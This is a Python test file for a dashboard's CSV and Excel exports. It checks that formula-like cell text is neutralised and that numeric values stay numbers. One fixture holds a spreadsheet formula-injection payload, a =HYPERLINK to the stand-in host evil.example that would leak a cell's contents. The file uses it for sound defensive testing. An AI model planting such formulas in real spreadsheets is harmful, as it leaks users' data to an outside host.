"""CSV and Excel exports: formula-like text is inert, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl

from dashboard.exports import to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
COLUMNS = [
    {"field": "sku_link", "headerName": "SKU"},
    {"field": "name", "headerName": "Product"},
    {"field": "net_sales", "headerName": "Net sales (USD)"},
    {"field": "units", "headerName": "Units"},
    {"field": "note", "headerName": "Note"},
]
ROWS = [
    {
        "sku_link": "[EVIL-1](/products/EVIL-1)",
        "name": EVIL,
        "net_sales": -12.5,
        "units": -1,
        "note": "+1 555",
    },
    {
        "sku_link": "[MUG-1](/products/MUG-1)",
        "name": "Mug - blue",
        "net_sales": 30.0,
        "units": 3,
        "note": "@home",
    },
    {"sku_link": "[CAP-1](/products/CAP-1)", "name": "-cap", "net_sales": 0, "units": 0, "note": None},
]


def test_csv_neutralises_text_that_would_run_and_keeps_numbers() -> None:
    text = to_csv(ROWS, COLUMNS).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["SKU", "Product", "Net sales (USD)", "Units", "Note"]
    # Given a product named =HYPERLINK(...), its cell is text starting with an apostrophe
    assert rows[1] == ["EVIL-1", "'" + EVIL, "-12.5", "-1", "'+1 555"]
    assert rows[2] == ["MUG-1", "Mug - blue", "30.0", "3", "'@home"]
    assert rows[3] == ["CAP-1", "'-cap", "0", "0", ""]


def test_excel_writes_text_as_text_and_numbers_as_numbers() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(ROWS, COLUMNS)))
    sheet = workbook.active
    assert [c.value for c in sheet[1]] == ["SKU", "Product", "Net sales (USD)", "Units", "Note"]
    name, sales, units, note = sheet["B2"], sheet["C2"], sheet["D2"], sheet["E2"]
    # The formula-like name is a string cell (never a formula), marked with Excel's quote prefix
    assert name.data_type == "s" and name.value == EVIL and name.quotePrefix
    assert note.data_type == "s" and note.value == "+1 555" and note.quotePrefix
    # Negative amounts stay numbers (a sum over the column works)
    assert sales.data_type == "n" and sales.value == -12.5
    assert units.data_type == "n" and units.value == -1
    assert sheet["B3"].value == "Mug - blue" and not sheet["B3"].quotePrefix
    assert sheet["A2"].value == "EVIL-1"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
